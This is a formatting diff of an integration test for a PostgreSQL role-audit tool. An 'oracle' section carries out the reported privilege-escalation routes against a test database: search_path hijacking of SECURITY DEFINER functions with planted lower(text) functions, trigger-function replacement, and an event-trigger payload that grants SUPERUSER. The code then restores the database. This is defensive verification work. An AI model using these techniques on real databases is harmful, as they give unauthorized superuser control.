@@ -40,8 +40,7 @@ def q(name: str) -> str:
 
 def layout_sql(major: int) -> tuple[str, str]:
     """(cluster-wide SQL, per-database SQL) of the test layout."""
-    admin_only = ("WITH ADMIN TRUE, INHERIT FALSE, SET FALSE" if major >= 16
-                  else "WITH ADMIN OPTION")
+    admin_only = "WITH ADMIN TRUE, INHERIT FALSE, SET FALSE" if major >= 16 else "WITH ADMIN OPTION"
     cluster = f"""
 CREATE ROLE {P}_su SUPERUSER NOLOGIN;
 CREATE ROLE {P}_team NOLOGIN;
@@ -127,29 +126,41 @@ GRANT SELECT, INSERT, UPDATE, DELETE ON {P}_g.docs TO db_writer_{P}g;
 def expected_routes(major: int) -> dict[tuple[str, str], tuple[list[str], list[str]]]:
     su, os_ = "superuser-equivalent", "OS access"
     out = {
-        (f"{P}_app", su): ([f"{P}_app", f"{P}_team", f"{P}_su", su],
-                           ["set_role", "security_definer", "superuser_attribute"]),
-        (f"{P}_app", os_): ([f"{P}_app", f"{P}_team", f"{P}_su", su, os_],
-                            ["set_role", "security_definer", "superuser_attribute",
-                             "superuser_os"]),
+        (f"{P}_app", su): (
+            [f"{P}_app", f"{P}_team", f"{P}_su", su],
+            ["set_role", "security_definer", "superuser_attribute"],
+        ),
+        (f"{P}_app", os_): (
+            [f"{P}_app", f"{P}_team", f"{P}_su", su, os_],
+            ["set_role", "security_definer", "superuser_attribute", "superuser_os"],
+        ),
         (f"{P}_dev", f"db_owner_{P}x"): ([f"{P}_dev", f"db_owner_{P}x"], ["trigger_function"]),
         (f"{P}_rep", f"db_owner_{P}x"): ([f"{P}_rep", f"db_owner_{P}x"], ["security_definer"]),
-        (f"{P}_helper", f"db_owner_{P}x"): ([f"{P}_helper", f"db_owner_{P}x"],
-                                           ["admin_option" if major >= 16 else "set_role"]),
-        (f"{P}_ops", su): ([f"{P}_ops", "pg_execute_server_program", su],
-                           ["set_role", "predefined_superuser"]),
-        (f"{P}_ops", os_): ([f"{P}_ops", "pg_execute_server_program", os_],
-                            ["set_role", "predefined_os"]),
+        (f"{P}_helper", f"db_owner_{P}x"): (
+            [f"{P}_helper", f"db_owner_{P}x"],
+            ["admin_option" if major >= 16 else "set_role"],
+        ),
+        (f"{P}_ops", su): (
+            [f"{P}_ops", "pg_execute_server_program", su],
+            ["set_role", "predefined_superuser"],
+        ),
+        (f"{P}_ops", os_): (
+            [f"{P}_ops", "pg_execute_server_program", os_],
+            ["set_role", "predefined_os"],
+        ),
         (f"{P}_evt", su): ([f"{P}_evt", su], ["event_trigger"]),
         (f"{P}_evt", os_): ([f"{P}_evt", su, os_], ["event_trigger", "superuser_os"]),
         (f"{P}_mgr", su): ([f"{P}_mgr", MANAGED, su], ["trigger_function", "managed_admin"]),
-        (f"{P}_mgr", os_): ([f"{P}_mgr", MANAGED, su, os_],
-                            ["trigger_function", "managed_admin", "superuser_os"]),
+        (f"{P}_mgr", os_): (
+            [f"{P}_mgr", MANAGED, su, os_],
+            ["trigger_function", "managed_admin", "superuser_os"],
+        ),
         # the guide's design: the deployment role sets role to its own owner role
         (f"deploy_{P}g", f"db_owner_{P}g"): ([f"deploy_{P}g", f"db_owner_{P}g"], ["set_role"]),
         ("PUBLIC", f"remote login via server {P}_srv (database DB)"): (
             ["PUBLIC", f"remote login via server {P}_srv (database DB)"],
-            ["public_user_mapping"]),
+            ["public_user_mapping"],
+        ),
     }
     if major >= 15:
         out[(f"{P}_param", su)] = ([f"{P}_param", su], ["parameter_acl"])
@@ -175,12 +186,21 @@ def layout(pg: Any) -> Iterator[dict[str, Any]]:
         con.close()
     finally:
         pg.drop_database(db)
-        names = [r[0] for r in pg.query(
-            "SELECT rolname FROM pg_roles WHERE rolname LIKE %s OR rolname LIKE %s "
-            "OR rolname LIKE %s OR rolname LIKE %s OR rolname = %s",
-            (f"{P}\\_%", f"db\\_%\\_{P}_", f"deploy\\_{P}_", f"app\\_{P}_", MANAGED))]
-        names += [r[0] for r in pg.query(
-            "SELECT rolname FROM pg_roles WHERE rolname ~ %s", (f"^(db_owner|db_writer)_{P}[gx]$",))]
+        names = [
+            r[0]
+            for r in pg.query(
+                "SELECT rolname FROM pg_roles WHERE rolname LIKE %s OR rolname LIKE %s "
+                "OR rolname LIKE %s OR rolname LIKE %s OR rolname = %s",
+                (f"{P}\\_%", f"db\\_%\\_{P}_", f"deploy\\_{P}_", f"app\\_{P}_", MANAGED),
+            )
+        ]
+        names += [
+            r[0]
+            for r in pg.query(
+                "SELECT rolname FROM pg_roles WHERE rolname ~ %s",
+                (f"^(db_owner|db_writer)_{P}[gx]$",),
+            )
+        ]
         idents = ", ".join(q(n) for n in sorted(set(names)))
         if idents:
             pg.execute(f"DROP OWNED BY {idents}; DROP ROLE {idents};")
@@ -189,8 +209,11 @@ def layout(pg: Any) -> Iterator[dict[str, Any]]:
 
 
 def _mine(row_from: str, nodes: list[str], db: str, hop_dbs: list[str | None]) -> bool:
-    return (P in row_from or any(P in n for n in nodes)
-            or (row_from == "PUBLIC" and db in [d for d in hop_dbs if d]))
+    return (
+        P in row_from
+        or any(P in n for n in nodes)
+        or (row_from == "PUBLIC" and db in [d for d in hop_dbs if d])
+    )
 
 
 def test_collects_rls_and_code_objects_as_pg_monitor(layout: dict[str, Any], pg: Any) -> None:
@@ -198,23 +221,48 @@ def test_collects_rls_and_code_objects_as_pg_monitor(layout: dict[str, Any], pg:
     assert layout["snap"].source_collected("policies")
     assert layout["snap"].source_collected("triggers")
     assert layout["snap"].source_collected("user_mappings")
-    rls = con.execute("SELECT identity, row_security, force_row_security, policies, owner "
-                      "FROM rls_tables WHERE database = ?", [db]).fetchall()
+    rls = con.execute(
+        "SELECT identity, row_security, force_row_security, policies, owner "
+        "FROM rls_tables WHERE database = ?",
+        [db],
+    ).fetchall()
     assert rls == [(f"{P}_g.docs", True, False, 2, f"db_owner_{P}g")]
-    pols = con.execute("""SELECT name, command, permissive, roles, using_expr, check_expr
-                          FROM policies WHERE database = ? ORDER BY name""", [db]).fetchall()
-    assert pols == [("ro", "SELECT", False, ["PUBLIC"], "(id > 0)", None),
-                    ("tenant_rows", "ALL", True, [f"db_writer_{P}g"], "(tenant = CURRENT_USER)",
-                     "(tenant = CURRENT_USER)")]
-    trg = con.execute("""SELECT name, table_identity, function_identity, function_owner, events,
-                                enabled FROM triggers WHERE database = ? ORDER BY name""", [db]).fetchall()
-    assert trg == [("stamp", f"public.{P}_jobs", f"public.{P}_jobs_trg()", f"{P}_mgr", ["INSERT"], "O"),
-                   ("touch", f"{P}_appx.orders", f"{P}_appx.touch()", f"{P}_dev", ["INSERT"], "O")]
-    evt = con.execute("""SELECT name, event, function_owner, owner FROM event_triggers
-                         WHERE database = ?""", [db]).fetchall()
+    pols = con.execute(
+        """SELECT name, command, permissive, roles, using_expr, check_expr
+                          FROM policies WHERE database = ? ORDER BY name""",
+        [db],
+    ).fetchall()
+    assert pols == [
+        ("ro", "SELECT", False, ["PUBLIC"], "(id > 0)", None),
+        (
+            "tenant_rows",
+            "ALL",
+            True,
+            [f"db_writer_{P}g"],
+            "(tenant = CURRENT_USER)",
+            "(tenant = CURRENT_USER)",
+        ),
+    ]
+    trg = con.execute(
+        """SELECT name, table_identity, function_identity, function_owner, events,
+                                enabled FROM triggers WHERE database = ? ORDER BY name""",
+        [db],
+    ).fetchall()
+    assert trg == [
+        ("stamp", f"public.{P}_jobs", f"public.{P}_jobs_trg()", f"{P}_mgr", ["INSERT"], "O"),
+        ("touch", f"{P}_appx.orders", f"{P}_appx.touch()", f"{P}_dev", ["INSERT"], "O"),
+    ]
+    evt = con.execute(
+        """SELECT name, event, function_owner, owner FROM event_triggers
+                         WHERE database = ?""",
+        [db],
+    ).fetchall()
     assert evt == [(f"{P}_et", "ddl_command_end", f"{P}_evt", "postgres")]
-    um = con.execute("""SELECT server, "user", option_names FROM user_mappings
-                        WHERE database = ?""", [db]).fetchall()
+    um = con.execute(
+        """SELECT server, "user", option_names FROM user_mappings
+                        WHERE database = ?""",
+        [db],
+    ).fetchall()
     # a PUBLIC mapping's options are visible only to the server owner's members
     assert um == [(f"{P}_srv", "PUBLIC", None)]
     # only option names are kept: the password value is nowhere in the snapshot
@@ -260,11 +308,17 @@ def test_rules_report_the_routes_and_rls(layout: dict[str, Any], pg: Any) -> Non
     rules = [r for r in load_rules() if r.id.startswith(("PGR-PATH", "PGR-RLS"))]
     res = {rr.rule.id: rr for rr in evaluate(layout["snap"], rules).results}
     p1 = {f.role for f in res["PGR-PATH-001"].findings if P in (f.role or "")}
-    want = {f"{P}_app", f"{P}_ops", f"{P}_evt", f"{P}_mgr"} | ({f"{P}_param"} if pg.major >= 15 else set()) \
+    want = (
+        {f"{P}_app", f"{P}_ops", f"{P}_evt", f"{P}_mgr"}
+        | ({f"{P}_param"} if pg.major >= 15 else set())
         | ({f"{P}_cr"} if pg.major < 16 else set())
+    )
     assert p1 == want
     app = next(f for f in res["PGR-PATH-001"].findings if f.role == f"{P}_app")
-    assert app.remediation == f"ALTER FUNCTION public.{P}_sd(t text) SET search_path = pg_catalog, pg_temp;"
+    assert (
+        app.remediation
+        == f"ALTER FUNCTION public.{P}_sd(t text) SET search_path = pg_catalog, pg_temp;"
+    )
     assert app.database == layout["db"]
     p2 = {f.role for f in res["PGR-PATH-002"].findings if P in (f.role or "")}
     assert p2 == {f"{P}_dev", f"{P}_helper", f"{P}_rep"} | ({f"{P}_cr"} if pg.major < 16 else set())
@@ -277,6 +331,7 @@ def test_rules_report_the_routes_and_rls(layout: dict[str, Any], pg: Any) -> Non
 
 
 # --- the oracle ----------------------------------------------------------------------------
+
 
 class Actor:
     """The session a route is walked in: the login role's own, until a hop's code runs in
@@ -330,7 +385,9 @@ def _walk(pg: Any, db: str, route: dict[str, Any], tmp_path: Any) -> list[str]:
                 actor.x(f"SET ROLE {q(to)}")
                 assert actor.current() == to, where
             elif kind == "inherit":
-                assert actor.x(f"SELECT pg_has_role(current_user, {psql_literal(to)}, 'USAGE')")[0][0], where
+                assert actor.x(f"SELECT pg_has_role(current_user, {psql_literal(to)}, 'USAGE')")[0][
+                    0
+                ], where
             elif kind in ("admin_option", "createrole"):
                 opts = " WITH SET TRUE" if pg.major >= 16 else ""
                 actor.x(f"GRANT {q(to)} TO CURRENT_USER{opts}")
@@ -339,7 +396,9 @@ def _walk(pg: Any, db: str, route: dict[str, Any], tmp_path: Any) -> list[str]:
             elif kind == "superuser_attribute":
                 actor.x("SELECT count(*) FROM pg_catalog.pg_authid")  # superuser only
             elif kind == "managed_admin":
-                assert actor.x(f"SELECT pg_has_role(current_user, {psql_literal(step['from'])}, 'MEMBER')")[0][0], where
+                assert actor.x(
+                    f"SELECT pg_has_role(current_user, {psql_literal(step['from'])}, 'MEMBER')"
+                )[0][0], where
                 actor.become("postgres")  # a provider's admin role; plain PostgreSQL has none
             elif kind in ("predefined_os", "predefined_superuser", "superuser_os"):
                 src = step["from"]
@@ -355,9 +414,11 @@ def _walk(pg: Any, db: str, route: dict[str, Any], tmp_path: Any) -> list[str]:
                 _hijack(pg, db, actor, step, parts, where)
             elif kind == "trigger_function":
                 fn = _writable_function(actor, parts)
-                actor.x(f"CREATE OR REPLACE FUNCTION {fn} RETURNS trigger LANGUAGE plpgsql AS "
-                        f"$$BEGIN INSERT INTO public.{P}_proof VALUES (current_user::text); "
-                        "RETURN NEW; END$$")
+                actor.x(
+                    f"CREATE OR REPLACE FUNCTION {fn} RETURNS trigger LANGUAGE plpgsql AS "
+                    f"$$BEGIN INSERT INTO public.{P}_proof VALUES (current_user::text); "
+                    "RETURN NEW; END$$"
+                )
                 before = _proof(pg, db)
                 victim = psycopg.connect(pg.conninfo(dbname=db), autocommit=True)
                 try:  # the table's writer does its normal work
@@ -365,20 +426,25 @@ def _walk(pg: Any, db: str, route: dict[str, Any], tmp_path: Any) -> list[str]:
                     victim.execute(f"INSERT INTO {step['object']} DEFAULT VALUES")
                 finally:
                     victim.close()
-                assert _proof(pg, db)[len(before):] == [to], where
+                assert _proof(pg, db)[len(before) :] == [to], where
                 actor.become(to)
             elif kind == "event_trigger":
                 fn = _writable_function(actor, parts)
                 # fires on every DDL, our own CREATE OR REPLACE included: act only when a
                 # superuser's statement runs it
-                actor.x(f"CREATE OR REPLACE FUNCTION {fn} RETURNS event_trigger LANGUAGE plpgsql AS "
-                        "$$BEGIN IF (SELECT rolsuper FROM pg_catalog.pg_roles "
-                        "WHERE rolname = current_user) THEN "
-                        f"INSERT INTO public.{P}_proof VALUES (current_user::text); "
-                        f"EXECUTE 'ALTER ROLE {q(login)} SUPERUSER'; END IF; END$$")
-                pg.execute(f"CREATE TABLE public.{P}_ddl (); DROP TABLE public.{P}_ddl",
-                           dbname=db)  # a superuser's DDL
-                assert pg.query(f"SELECT rolsuper FROM pg_roles WHERE rolname = {psql_literal(login)}")[0][0], where
+                actor.x(
+                    f"CREATE OR REPLACE FUNCTION {fn} RETURNS event_trigger LANGUAGE plpgsql AS "
+                    "$$BEGIN IF (SELECT rolsuper FROM pg_catalog.pg_roles "
+                    "WHERE rolname = current_user) THEN "
+                    f"INSERT INTO public.{P}_proof VALUES (current_user::text); "
+                    f"EXECUTE 'ALTER ROLE {q(login)} SUPERUSER'; END IF; END$$"
+                )
+                pg.execute(
+                    f"CREATE TABLE public.{P}_ddl (); DROP TABLE public.{P}_ddl", dbname=db
+                )  # a superuser's DDL
+                assert pg.query(
+                    f"SELECT rolsuper FROM pg_roles WHERE rolname = {psql_literal(login)}"
+                )[0][0], where
                 actor.x("RESET ROLE")
             elif kind == "parameter_acl":
                 actor.x(f"ALTER SYSTEM SET {parts['fix_name']} = 'true'")
@@ -388,13 +454,17 @@ def _walk(pg: Any, db: str, route: dict[str, Any], tmp_path: Any) -> list[str]:
                 # the server's own checks: the role may use the server, has no mapping of
                 # its own, so the FDW connects with the PUBLIC mapping's credentials
                 srv = psql_literal(parts["fix_name"])
-                seen = actor.x(f"SELECT has_server_privilege({srv}, 'USAGE'), "
-                               "array_agg(usename ORDER BY usename) FROM pg_user_mappings "
-                               f"WHERE srvname = {srv} AND usename IN ('public', session_user)")
+                seen = actor.x(
+                    f"SELECT has_server_privilege({srv}, 'USAGE'), "
+                    "array_agg(usename ORDER BY usename) FROM pg_user_mappings "
+                    f"WHERE srvname = {srv} AND usename IN ('public', session_user)"
+                )
                 assert seen == [(True, ["public"])], where
             else:  # pragma: no cover - a new edge kind needs an oracle step
                 raise AssertionError(f"{where}: no oracle for this kind")
-            log.append(f"{where}: ok{' (as ' + to + ' via superuser session)' if actor.assisted else ''}")
+            log.append(
+                f"{where}: ok{' (as ' + to + ' via superuser session)' if actor.assisted else ''}"
+            )
     finally:
         actor.close()
     return log
@@ -406,33 +476,44 @@ def _writable_function(actor: Actor, parts: dict[str, Any]) -> str:
     schema, name = parts["fix_schema"], parts["fix_name"]
     ok = actor.x(f"SELECT has_schema_privilege({psql_literal(schema)}, 'CREATE')")[0][0]
     if not ok:
-        target = actor.x("SELECT nspname FROM pg_namespace WHERE has_schema_privilege(oid, 'CREATE') "
-                         "AND nspname NOT LIKE 'pg\\_%' AND nspname <> 'information_schema' "
-                         "ORDER BY nspname LIMIT 1")[0][0]
+        target = actor.x(
+            "SELECT nspname FROM pg_namespace WHERE has_schema_privilege(oid, 'CREATE') "
+            "AND nspname NOT LIKE 'pg\\_%' AND nspname <> 'information_schema' "
+            "ORDER BY nspname LIMIT 1"
+        )[0][0]
         actor.x(f"ALTER FUNCTION {q(schema)}.{q(name)}() SET SCHEMA {q(target)}")
         schema = target
     return f"{q(schema)}.{q(name)}()"
 
 
-def _hijack(pg: Any, db: str, actor: Actor, step: dict[str, Any], parts: dict[str, Any],
-            where: str) -> None:
+def _hijack(
+    pg: Any, db: str, actor: Actor, step: dict[str, Any], parts: dict[str, Any], where: str
+) -> None:
     """Plant lower(text) in every schema the acting role can create in, put them first on
     the search_path and call the SECURITY DEFINER function: the planted code runs as its
     owner (recorded in the proof table; a superuser owner also makes the login a superuser)."""
-    schemas = [r[0] for r in actor.x(
-        "SELECT nspname FROM pg_namespace WHERE has_schema_privilege(oid, 'CREATE') "
-        "AND nspname NOT LIKE 'pg\\_%' AND nspname <> 'information_schema'")]
+    schemas = [
+        r[0]
+        for r in actor.x(
+            "SELECT nspname FROM pg_namespace WHERE has_schema_privilege(oid, 'CREATE') "
+            "AND nspname NOT LIKE 'pg\\_%' AND nspname <> 'information_schema'"
+        )
+    ]
     assert schemas, f"{where}: no schema to plant in"
-    owner_super = pg.query(f"SELECT rolsuper FROM pg_roles WHERE rolname = {psql_literal(step['to'])}")[0][0]
+    owner_super = pg.query(
+        f"SELECT rolsuper FROM pg_roles WHERE rolname = {psql_literal(step['to'])}"
+    )[0][0]
     extra = f"EXECUTE 'ALTER ROLE {q(actor.login)} SUPERUSER'; " if owner_super else ""
     for s in schemas:
-        actor.x(f"CREATE FUNCTION {q(s)}.lower(text) RETURNS text LANGUAGE plpgsql AS "
-                f"$$BEGIN INSERT INTO public.{P}_proof VALUES (current_user::text); {extra}"
-                "RETURN $1; END$$")
+        actor.x(
+            f"CREATE FUNCTION {q(s)}.lower(text) RETURNS text LANGUAGE plpgsql AS "
+            f"$$BEGIN INSERT INTO public.{P}_proof VALUES (current_user::text); {extra}"
+            "RETURN $1; END$$"
+        )
     before = _proof(pg, db)
     actor.x("SET search_path = " + ", ".join(q(s) for s in schemas) + ", pg_catalog")
     actor.x(f"SELECT {step['object'].split('(')[0]}('X')")  # identity: quoted schema.name(args)
-    assert _proof(pg, db)[len(before):] == [step["to"]], where
+    assert _proof(pg, db)[len(before) :] == [step["to"]], where
     actor.x("RESET search_path")
     if owner_super:
         actor.x("RESET ROLE")  # the login itself is a superuser now
@@ -447,7 +528,8 @@ def psql_literal(text: str) -> str:
 def _restore(pg: Any, db: str) -> None:
     """Undo what a walk changed: superuser flags, memberships granted to itself, replaced
     functions, planted functions."""
-    pg.execute(f"""
+    pg.execute(
+        f"""
         DO $$ DECLARE r record; BEGIN
           FOR r IN SELECT p.oid::regprocedure AS f, p.proname FROM pg_proc p
                    JOIN pg_namespace n ON n.oid = p.pronamespace
@@ -464,20 +546,32 @@ def _restore(pg: Any, db: str) -> None:
                    WHERE p.proname = 'lower' AND n.nspname <> 'pg_catalog' LOOP
             EXECUTE 'DROP FUNCTION ' || r.f;
           END LOOP;
-        END $$;""", dbname=db)
+        END $$;""",
+        dbname=db,
+    )
     # after the functions: a planted event trigger payload fires on the DDL above
-    logins = [r[0] for r in pg.query("SELECT rolname FROM pg_roles WHERE rolname LIKE %s AND rolsuper "
-                                     "AND rolname <> %s", (f"{P}\\_%", f"{P}_su"))]
+    logins = [
+        r[0]
+        for r in pg.query(
+            "SELECT rolname FROM pg_roles WHERE rolname LIKE %s AND rolsuper AND rolname <> %s",
+            (f"{P}\\_%", f"{P}_su"),
+        )
+    ]
     for name in logins:
         pg.execute(f"ALTER ROLE {q(name)} NOSUPERUSER")
 
 
-def test_oracle_every_reported_route_is_real(layout: dict[str, Any], pg: Any, tmp_path: Any) -> None:
+def test_oracle_every_reported_route_is_real(
+    layout: dict[str, Any], pg: Any, tmp_path: Any
+) -> None:
     from pgaudit_roles.commands.paths import gather
 
     db = layout["db"]
-    routes = [r for r in gather(layout["con"], None, None)
-              if _mine(r["from"], [s["to"] for s in r["steps"]], db, [s["database"] for s in r["steps"]])]
+    routes = [
+        r
+        for r in gather(layout["con"], None, None)
+        if _mine(r["from"], [s["to"] for s in r["steps"]], db, [s["database"] for s in r["steps"]])
+    ]
     assert len(routes) >= len(expected_routes(pg.major))
     grants_before = set(pg.query("SELECT roleid, member FROM pg_auth_members"))
     walked = []
@@ -489,8 +583,10 @@ def test_oracle_every_reported_route_is_real(layout: dict[str, Any], pg: Any, tm
         finally:
             extra = set(pg.query("SELECT roleid, member FROM pg_auth_members")) - grants_before
             for roleid, member in extra:
-                pg.execute(f"REVOKE {q(pg.query('SELECT rolname FROM pg_roles WHERE oid = %s', (roleid,))[0][0])} "
-                           f"FROM {q(pg.query('SELECT rolname FROM pg_roles WHERE oid = %s', (member,))[0][0])}")
+                pg.execute(
+                    f"REVOKE {q(pg.query('SELECT rolname FROM pg_roles WHERE oid = %s', (roleid,))[0][0])} "
+                    f"FROM {q(pg.query('SELECT rolname FROM pg_roles WHERE oid = %s', (member,))[0][0])}"
+                )
             _restore(pg, db)
         assert len(log) == len(r["steps"])
         walked.append(r["route"])
